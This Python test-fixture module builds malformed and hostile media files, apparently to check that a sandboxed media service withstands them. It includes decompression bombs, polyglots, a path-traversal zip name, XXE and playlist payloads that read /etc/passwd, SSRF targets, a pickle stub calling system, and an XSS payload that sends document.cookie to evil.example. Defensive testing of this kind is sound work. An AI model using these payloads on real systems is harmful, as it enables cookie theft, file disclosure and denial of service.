"""Files that are bombs, lies, or two things at once; made here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from media_seeds import seeds

PAGE = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"


@cache
def _seeds() -> Mapping[str, tuple[str, bytes]]:
    return seeds()


def _good(name: str) -> bytes:
    return _seeds()[name][1]


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I4s", len(data), kind) + data + struct.pack(
            ">I", zlib.crc32(kind + data)
        )  # fmt: skip

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _jpeg(width: int, height: int) -> bytes:
    """A small one whose header claims another size."""
    data = bytearray(_good("picture.jpg"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _commented() -> bytes:
    good = _good("picture.jpg")
    return good[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(PAGE)) + PAGE + good[2:]


def _mjpeg(width: int, height: int) -> bytes:
    """A QuickTime file whose pictures claim another size, in both places."""
    data = bytearray(_good("mjpeg.mov"))
    entry = data.index(b"jpeg", data.index(b"stsd")) + 4 + 24
    data[entry : entry + 4] = struct.pack(">HH", width, height)
    at = 0
    while (at := data.find(b"\xff\xc0", at)) > 0:
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        at += 9
    return bytes(data)


def wav(rate: int, channels: int, bits: int, claimed: int, data: bytes = b"\x00" * 64) -> bytes:
    """A PCM file that claims what it likes."""
    block = channels * bits // 8 & 0xFFFF
    head = struct.pack(
        "<HHIIHH", 1, channels, rate, rate * block & 0xFFFFFFFF, block, bits & 0xFFFF
    )
    parts = b"WAVEfmt " + struct.pack("<I", 16) + head + b"data" + struct.pack("<I", claimed) + data
    return b"RIFF" + struct.pack("<I", len(parts)) + parts


def _endless_flac() -> bytes:
    """One that does not say how long it is; the same frames again and again."""
    data = bytearray(_good("flac.flac"))
    data[21] &= 0xF0  # 36 bits of samples in all: none known
    data[22:26] = b"\x00" * 4
    start = data.index(b"\xff\xf8")
    return bytes(data[:start]) + bytes(data[start:]) * 400


def _zip(inner: bytes, name: str = "../../../../tmp/out.mp4") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, inner)
    return file.getvalue()


def _reference_movie(url: bytes) -> bytes:
    """A QuickTime file that is nothing but the address of another."""
    reference = _box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(url) + 1), url, b"\x00")
    return _box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + _box(
        b"moov", _box(b"rmra", _box(b"rmda", reference))
    )


# A task of the limited process, and the file that it is given; made when it is wanted.
File = tuple[str, Callable[[], bytes]]
BOMBS: Mapping[str, File] = {
    "a PNG of 100000 x 100000": (
        "picture",
        lambda: png(100_000, 100_000, zlib.compress(bytes(100))),
    ),
    "a PNG of 20000 x 20000": (
        "picture",
        lambda: png(20_000, 20_000, zlib.compress(bytes(20_001) * 50)),
    ),
    "a PNG one pixel high": ("picture", lambda: png(1 << 30, 1, bytes(1 << 20))),
    "a PNG of negative size": ("picture", lambda: png(0xFFFFFFFF, 0xFFFFFFFF, b"")),
    "a PNG that inflates a thousandfold": (
        "picture",
        lambda: png(64, 64, zlib.compress(bytes(1 << 26))),
    ),
    "a JPEG of 65500 x 65500": ("picture", lambda: _jpeg(65_500, 65_500)),
    "a video of 20000 x 20000": ("normalise", lambda: _mjpeg(20_000, 20_000)),
    "a video of 65535 x 65535": ("sample", lambda: _mjpeg(65_535, 65_535)),
    "a video one pixel wide": ("normalise", lambda: _mjpeg(1, 60_000)),
    "sound of 4 billion Hz": ("audio", lambda: wav(0xFFFFFFFF, 1, 16, 64)),
    "sound of 0 Hz": ("audio", lambda: wav(0, 1, 16, 64)),
    "sound of 1 Hz": ("audio", lambda: wav(1, 1, 16, 1 << 20, bytes(1 << 20))),
    "sound of 65535 channels": ("audio", lambda: wav(48_000, 65_535, 16, 1 << 30)),
    "sound of no channels": ("audio", lambda: wav(48_000, 0, 16, 64)),
    "sound of 65528 bits": ("audio", lambda: wav(48_000, 1, 65_528, 64)),
    "a FLAC without a length": ("audio", _endless_flac),
    "an archive of an archive": ("audio", lambda: _zip(_zip(bytes(1 << 24)))),
    "fifty thousand boxes": (
        "probe",
        lambda: _box(b"moov") * 50_000,
    ),
}
OTHERS: Mapping[str, File] = {
    "a page that begins like a GIF": ("picture", lambda: b"GIF89a/*" + PAGE + b"*/"),
    "a page that begins like a JPEG": ("picture", lambda: b"\xff\xd8\xff" + PAGE),
    "a picture with a script in it": (
        "picture", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script>"
        b"<image href='file:///etc/passwd'/></svg>",
    ),
    "XML with an entity": ("probe", lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM "
                                    b"'file:///etc/passwd'>]><a>&b;</a>"),
    "a PDF": ("probe", lambda: b"%PDF-1.7\n" + PAGE),
    "a program": ("audio", lambda: b"\x7fELF\x02\x01\x01" + bytes(100)),
    "a shell script": ("audio", lambda: b"#!/bin/sh\nid > /tmp/owned\n"),
    "an archive that steps up": ("normalise", lambda: _zip(_good("h264.mp4"))),
    "a list of HLS": (
        "probe", lambda: b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n",
    ),
    "a list to concatenate": ("audio", lambda: b"ffconcat version 1.0\nfile /etc/passwd\n"),
    "a DASH manifest": (
        "probe", lambda: b"<?xml version='1.0'?><MPD><Period><BaseURL>http://127.0.0.1/</BaseURL>"
        b"</Period></MPD>",
    ),
    "subtitles": ("probe", lambda: b"1\n00:00:00,000 --> 00:00:01,000\n<font face='/etc'>x\n"),
    "a session description": ("probe", lambda: b"v=0\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n"),
    "a QuickTime reference": ("normalise", lambda: _reference_movie(b"http://127.0.0.1:9/x.mov")),
    "a QuickTime reference to a file": ("probe", lambda: _reference_movie(b"file:///etc/passwd")),
    "a serialised object": ("audio", lambda: b"\x80\x04\x95cposix\nsystem\n"),
}  # fmt: skip
# Good ones with something behind them: what is behind does not come out.
CARRIERS: Mapping[str, File] = {
    "a picture with an archive behind it": ("picture", lambda: _good("picture.png") + _zip(PAGE)),
    "a picture with a page in a comment": ("picture", _commented),
    "sound with an archive behind it": ("audio", lambda: _good("pcm.wav") + _zip(PAGE)),
    "a video with a page in a box": ("audio", lambda: _good("h264.mp4") + _box(b"free", PAGE)),
}  # fmt: skip
